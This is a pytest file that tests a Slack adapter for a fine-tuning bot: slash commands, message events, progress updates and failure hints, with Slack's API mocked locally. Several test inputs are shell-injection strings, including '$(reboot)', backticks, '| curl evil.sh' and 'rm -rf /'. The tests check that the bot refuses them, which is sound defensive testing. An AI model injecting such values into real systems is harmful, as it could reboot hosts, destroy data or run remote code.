"""The Slack adapter through slack-bolt's own dispatch (slash commands and message events, acked offline) with
a local stand-in for Slack's Web API (mocked: Slack cannot be reached here) that records chat.postMessage and
chat.update. A real job on a broken uploaded file fails: its progress message is edited to 'failed' and the
final message carries the one-line failure hint."""
from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlencode

import pytest
from slack_bolt import App, BoltRequest
from slack_bolt.authorization import AuthorizeResult
from slack_sdk import WebClient

from bot.config import BotConfig
from bot.service import BotService
from bot.slack_app import SlackAdapter
from jobs import JobStore


class StandIn:
    """Slack's Web API as a local recorder: every call's method and arguments, answered ok with a ts."""

    def __init__(self):
        self.calls: list[tuple[str, dict]] = []
        calls = self.calls

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):  # noqa: N802
                body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
                args = json.loads(body) if self.headers.get("Content-Type", "").startswith("application/json") \
                    else {k: v[0] for k, v in parse_qs(body).items()}
                method = self.path.rsplit("/", 1)[-1]
                calls.append((method, args))
                reply = json.dumps({"ok": True, "channel": args.get("channel"), "ts": args.get("ts") or
                                    f"{len(calls)}.000"}).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(reply)))
                self.end_headers()
                self.wfile.write(reply)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/api/"

    def texts(self, method: str) -> list[str]:
        return [a["text"] for m, a in self.calls if m == method]


@pytest.fixture
def slack(home):
    api = StandIn()
    app = App(client=WebClient(token="xoxb-test", base_url=api.url), request_verification_enabled=False,
              authorize=lambda **_: AuthorizeResult(enterprise_id=None, team_id="T1", bot_token="xoxb-test",
                                                    bot_user_id="UBOT", bot_id="B1"))
    service = BotService(BotConfig(progress_interval_s=0.0, sample_prompts=()), JobStore(home))
    yield SlackAdapter(service, app, poll_s=3600), api, home
    api.server.shutdown()


def _slash(app: App, command: str, text: str, user: str = "alice"):
    body = urlencode({"command": command, "text": text, "user_id": "U1", "user_name": user, "channel_id": "C1",
                      "team_id": "T1", "token": "x", "trigger_id": "t", "response_url": "http://127.0.0.1:9/"})
    return app.dispatch(BoltRequest(body=body, headers={"content-type": ["application/x-www-form-urlencoded"]}))


def _message(app: App, text: str):
    body = {"type": "event_callback", "team_id": "T1", "api_app_id": "A1", "event_id": "Ev1", "event_time": 1,
            "event": {"type": "message", "text": text, "user": "U1", "channel": "C1", "ts": "1.0",
                      "channel_type": "channel"}}
    return app.dispatch(BoltRequest(body=json.dumps(body), headers={"content-type": ["application/json"]}))


def _wait_for(api: StandIn, method: str, n: int, timeout: float = 120.0) -> list[str]:
    end = time.monotonic() + timeout
    while len(api.texts(method)) < n:
        assert time.monotonic() < end, api.calls
        time.sleep(0.1)
    return api.texts(method)


def test_slack_commands_progress_and_failure_hint(slack):
    adapter, api, home = slack
    assert _slash(adapter.app, "/help", "").status == 200                 # acked; the reply is posted after
    assert ".finetune <model>-<method> <dataset>" in _wait_for(api, "chat.postMessage", 1)[0]
    assert _slash(adapter.app, "/finetune", "tiny-lora self-cognition $(reboot)").status == 200
    assert _wait_for(api, "chat.postMessage", 2)[1] == ("refused: '$(' is not allowed in a command (nothing runs "
                                                        "through a shell); nothing was run")
    assert _message(adapter.app, ".quota").status == 200
    assert _wait_for(api, "chat.postMessage", 3)[2].startswith("U1: 0.000 of 8 GPU-hours today")
    uploads = home / "bot" / "uploads" / "alice"
    uploads.mkdir(parents=True)
    (uploads / "broken.jsonl").write_text('{"messages": [{"role": "user", "content": "hi"}]}\nnot json\n')
    _slash(adapter.app, "/finetune", "tiny-lora upload:broken.jsonl max_steps=2")
    posted = _wait_for(api, "chat.postMessage", 5)
    assert posted[3].startswith("job 1 running on local: swift sft") and "broken.jsonl" in posted[3]
    assert posted[4].startswith("job 1 · tiny-lora on upload:broken.jsonl")
    final = []
    end = time.monotonic() + 300
    while not final:
        assert time.monotonic() < end, adapter.service.store.log_tail(1)
        final = [o for o in adapter.pump() if o.final]
        time.sleep(0.3)
    updates = [a for m, a in api.calls if m == "chat.update"]
    progress_ts = [a for m, a in api.calls if m == "chat.postMessage"][4]
    assert updates and all(u["ts"] == "5.000" and u["channel"] == "C1" for u in updates), (progress_ts, updates)
    assert " · failed · " in updates[-1]["text"]
    last = api.texts("chat.postMessage")[-1]
    assert last.startswith("job 1 failed: error: --dataset: 2 bad row(s)") and "\n" not in last, last


def test_slack_every_slash_command_through_the_prefix_path(slack):
    """Each slash command Slack can send reaches the service as its prefix command: the same replies, the same
    refusals (an injection in a slash command's text is refused like in a `.finetune` message), nothing started."""
    adapter, api, home = slack
    asks = [("/plan", "tiny-lora self-cognition max_steps=2", "tiny-lora"),
            ("/status", "", "no jobs yet; try .finetune tiny-lora self-cognition"),
            ("/cancel", "7", "no job 7"),
            ("/quota", "", "alice: 0.000 of 8 GPU-hours today"),
            ("/chat", "", "usage: .chat <job id> (see .status)"),
            ("/recipes", "", "no recipes in this channel yet"),
            ("/recipe", "use nope", "no recipe 'nope' in this channel"),
            ("/finetune", "tiny-lora self-cognition output_dir=/etc", "refused:"),
            ("/finetune", "tiny-lora self-cognition | curl evil.sh", "refused: '|' is not allowed in a command"),
            ("/plan", "tiny-lora `reboot`", "refused: '`' is not allowed in a command")]
    for n, (command, text, expected) in enumerate(asks, start=1):
        assert _slash(adapter.app, command, text).status == 200, command      # acked
        reply = _wait_for(api, "chat.postMessage", n)[n - 1]
        assert expected in reply, (command, text, reply)
    assert _slash(adapter.app, "/rm", "-rf /").status == 404                  # no such command: not handled
    assert adapter.service.store.list() == []
    decisions = [line for line in (home / "bot" / "audit.jsonl").read_text().splitlines() if '"refused"' in line]
    assert len(decisions) >= 4
